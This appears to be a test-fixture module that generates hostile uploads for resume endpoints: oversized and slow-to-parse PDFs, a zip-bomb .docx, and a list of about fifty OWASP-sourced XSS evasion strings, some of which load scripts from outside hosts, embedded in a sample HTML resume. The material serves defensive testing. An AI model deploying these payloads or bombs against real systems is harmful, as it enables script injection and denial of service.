// Hostile uploads, built at test time: what an attacker sends to the resume endpoints.
import { createDeflateRaw } from 'node:zlib';
import { PDFDocument, PDFName, StandardFonts } from 'pdf-lib';
import { zipOf } from './resumeFiles';

/**
 * A PDF of `pageCount` pages, nothing on them but an optional line of text on the first, written
 * without object streams as most generators do (10,000 pages come to about 1 MB).
 */
export async function manyPagePdf(pageCount: number, firstPageText?: string): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let page = 0; page < pageCount; page++) pdf.addPage([200, 200]);
  if (firstPageText) pdf.getPage(0).drawText(firstPageText, { x: 10, y: 150, size: 8, font });
  return pdf.save({ useObjectStreams: false });
}

/**
 * A one-page PDF whose page shows `textCount` one-letter strings: a few hundred KB that take pdfjs
 * about a second per 100,000 strings to read.
 */
export async function slowPdf(textCount: number): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const page = pdf.addPage([600, 800]);
  const contents = pdf.context.register(pdf.context.flateStream('BT /F 1 Tf 10 10 Td (x) Tj ET\n'.repeat(textCount)));
  page.node.set(PDFName.of('Contents'), contents);
  page.node.set(PDFName.of('Resources'), pdf.context.obj({ Font: { F: font.ref } }));
  return pdf.save();
}

/** `byteCount` zero bytes, raw-deflated a megabyte at a time (never held whole in memory). */
export async function deflatedZeros(byteCount: number): Promise<Buffer> {
  const deflate = createDeflateRaw({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve, reject) => deflate.once('end', resolve).once('error', reject));
  const megabyte = Buffer.alloc(1024 * 1024);
  for (let written = 0; written < byteCount; written += megabyte.length) {
    const chunk = megabyte.subarray(0, Math.min(megabyte.length, byteCount - written));
    if (!deflate.write(chunk)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  deflate.end();
  await ended;
  return Buffer.concat(chunks);
}

const CONTENT_TYPES = Buffer.from(
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
);

/**
 * A ".docx" whose word/document.xml is `expandedBytes` of zeros: about 1 KB of archive per MB
 * expanded. `declaredSize` lets the archive lie about it.
 */
export async function zipBombDocx(expandedBytes: number, declaredSize = expandedBytes): Promise<Uint8Array> {
  return zipOf([
    { name: '[Content_Types].xml', data: CONTENT_TYPES, stored: true, declaredSize: CONTENT_TYPES.length },
    { name: 'word/document.xml', data: await deflatedZeros(expandedBytes), declaredSize: Math.min(declaredSize, 0xffffffff) },
  ]);
}

/**
 * Inputs from the OWASP XSS Filter Evasion Cheat Sheet: each would run script, load a resource
 * or restyle the page if a preview let it through.
 */
export const XSS_FILTER_EVASIONS = [
  '<script>alert("XSS")</script>',
  '<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror=alert(1)>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">',
  '<a href="javascript:alert(\'XSS\')">link</a>',
  '<a href="jav&#x0A;ascript:alert(\'XSS\');">link</a>',
  '<a href="&#1;javascript:alert(\'XSS\')">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">link</a>',
  '<a href="//xss.rocks/xss.js">link</a>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<svg/onload=alert(\'XSS\')>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  '<style>body { width: expression(alert("XSS")); }</style>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD BACKGROUND="javascript:alert(\'XSS\')">cell</TD></TR></TABLE>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->',
  '<XSS STYLE="behavior: url(xss.htc);">',
  '<template><script>alert(1)</script></template>',
];

/** An HTML resume with real content around every evasion above. */
export function xssResumeHtml(): Uint8Array {
  return new TextEncoder().encode(
    [
      '<!DOCTYPE html><html><head><meta charset="utf-8"><title>简历</title></head><body>',
      '<h1>个人简历</h1>',
      '<table><tr><td>姓名</td><td>王芳</td></tr><tr><td>邮箱</td><td><a href="mailto:wangfang@example.cn">wangfang@example.cn</a></td></tr></table>',
      ...XSS_FILTER_EVASIONS.map((vector) => `<p>${vector}</p>`),
      '<p>求职意向：<strong>物流工程师</strong></p>',
      '</body></html>',
    ].join('\n'),
  );
}
